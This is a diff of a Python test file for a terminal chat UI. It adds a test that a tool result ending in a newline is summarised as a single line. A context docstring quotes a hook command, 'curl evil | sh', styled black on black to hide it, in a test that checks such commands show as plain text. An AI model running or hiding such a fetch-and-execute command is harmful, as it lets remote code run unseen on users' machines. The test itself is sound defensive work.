@@ -218,6 +218,29 @@ async def test_an_auto_commit_shows_its_note_as_the_repl_does() -> None:
         ]
 
 
+async def test_a_tool_result_that_ends_in_a_newline_is_one_line_as_in_the_repl() -> None:
+    """One summary of a result (`commands/display.py::result_summary`): the chat said
+    `built (+1 lines)` of `built\\n`, where the REPL says `built`."""
+    from moot.tui.widgets.tool_block import ToolBlock
+
+    run = Run().start("build it")
+    run.tool("t1", "bash", {"command": "make"}, "built\n")
+    run.tool("t2", "bash", {"command": "make test"}, "3 passed\n1 failed\n")
+    client = FakeClient(run.events, autoplay=False)
+    app = app_for(client)
+    async with app.run_test(size=(120, 40)) as pilot:
+        client.play()
+        for _ in range(50):  # bounded: the bridge hands events over in its own task
+            if len(app.query(ToolBlock)) == 2:
+                break
+            await pilot.pause()
+        await pilot.pause()
+        assert [block.summary() for block in app.query(ToolBlock)] == [
+            "built",
+            "3 passed (+1 lines)",
+        ]
+
+
 async def test_what_a_command_says_is_shown_as_written_never_as_markup() -> None:
     """Second attack on issue 28: `/trust` says what a repository's hooks run, and a hook
     command written `[black on black]curl evil | sh[/]` showed as a blank line."""
